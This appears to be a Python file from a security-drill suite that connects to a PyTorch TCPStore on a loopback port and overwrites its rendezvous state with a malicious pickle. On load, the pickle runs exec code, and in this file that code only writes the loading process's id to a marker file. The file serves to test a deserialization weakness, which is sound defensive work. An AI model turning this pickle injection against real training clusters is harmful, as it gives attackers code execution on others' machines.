# SPDX-FileCopyrightText: 2026 The securetrain developers
# SPDX-License-Identifier: Apache-2.0
"""The attacker of D-RDZ-PICKLE: one connection, no torch, and a pickle where the agent loads it."""

import base64
import os
import pickle
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from securetrain.drills.tcpstore_client import NotAStoreError, StoreClient

_STATE_KEY: Final = "torch.rendezvous."


class _MarkerPayload:
    """Unpickles to None and leaves the unpickling process's id in a marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        # The drill's whole payload: it writes one small file below the drill's work directory.
        name = str(self.marker)
        code = f"import os\nwith open({name!r}, 'a') as file: file.write(f'{{os.getpid()}} ')"
        return exec, (code,)


def marker_pickle(marker: Path) -> bytes:
    """A pickle that writes the id of the process that loads it to `marker`."""
    return pickle.dumps(_MarkerPayload(marker))


def marked_by(marker: Path) -> list[int]:
    """The ids of the processes that ran the payload."""
    return [int(pid) for pid in marker.read_text().split()] if marker.exists() else []


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """The result of one connection."""

    port: int
    connected: bool = False
    spoke_store: bool = False
    """Whether the port answered as a TCPStore."""
    keys: tuple[str, ...] = ()
    overwritten: tuple[str, ...] = ()
    answer: bytes = b""
    """The first bytes of what came back instead."""
    error: str = ""


def attack_store(port: int, marker: Path, *, run_id: str = "", timeout: float = 3.0) -> Attack:
    """Overwrite the rendezvous state in the store at a loopback port.

    Args:
        port: A TCP port on 127.0.0.1.
        marker: Where the payload leaves its mark.
        run_id: When no state is listed, the state of this run id is written instead.
        timeout: Seconds for each answer.
    """
    try:
        client = StoreClient("127.0.0.1", port, timeout)
    except OSError as error:
        return Attack(port=port, error=f"{type(error).__name__}: {error}")
    with client:
        try:
            return _talk(client, port, marker, run_id)
        except NotAStoreError as error:
            return Attack(port=port, connected=True, error=f"{type(error).__name__}: {error}")


def _talk(client: StoreClient, port: int, marker: Path, run_id: str) -> Attack:
    nonce = int.from_bytes(os.urandom(4), "little")
    client.hello()
    answer = client.echo(nonce)
    if answer != nonce.to_bytes(4, "little"):
        return Attack(port=port, connected=True, answer=answer)
    keys = tuple(client.list_keys())
    targets = sorted(key for key in keys if _STATE_KEY in key)[:1]
    if not targets and run_id:
        targets = [f"/{_STATE_KEY}{run_id}"]
    for key in targets:
        client.set(key, base64.b64encode(marker_pickle(marker)))
    # The server answers in order, so an answered ping means that the value is stored.
    stored = client.ping(nonce)
    return Attack(
        port=port,
        connected=True,
        spoke_store=True,
        keys=keys,
        overwritten=tuple(targets) if stored else (),
    )
